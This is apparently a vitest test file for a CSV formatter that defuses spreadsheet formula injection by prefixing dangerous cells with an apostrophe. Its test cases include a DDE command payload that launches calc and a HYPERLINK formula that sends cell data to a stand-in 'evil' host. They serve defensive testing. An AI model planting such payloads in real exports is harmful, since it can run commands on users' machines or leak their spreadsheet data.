import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { formatCsvCell, formatCsvLine } from "./csv.ts";

/** RFC 4180, then the one apostrophe that guards a formula. */
function readCells(line: string): string[] {
  const cells = [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n$)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
  );
  return cells.map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell));
}

describe("csv", () => {
  it.each([
    ["=1+1", `"'=1+1"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["@SUM(1+1)", `"'@SUM(1+1)"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    [`=HYPERLINK("https://evil?"&A1)`, `"'=HYPERLINK(""https://evil?""&A1)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["=  cmd", `"'=  cmd"`],
    ["＝1+1", `"'＝1+1"`],
    ["a,b\n=1", `"a,b\n=1"`],
    ["1;=2", `"1;=2"`],
  ])("make %j harmless", (value, cell) => {
    expect(formatCsvCell(value)).toBe(cell);
    expect(readCells(formatCsvLine([value, "next"]))).toEqual([value, "next"]);
  });

  it("keep numbers numbers", () => {
    expect(formatCsvLine([-12n, 0.5, -3, null, "plain", "O'Neil"])).toBe(`-12,0.5,-3,,plain,"O'Neil"\r\n`);
  });

  it("give any text back", () => {
    const text = fc.string({
      unit: fc.oneof(
        fc.constantFrom("=", "+", "-", "@", "'", '"', ",", ";", "\t", "\r", "\n", "＝"),
        fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
      ),
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        expect(readCells(formatCsvLine(cells))).toEqual(cells);
      }),
    );
  });
});
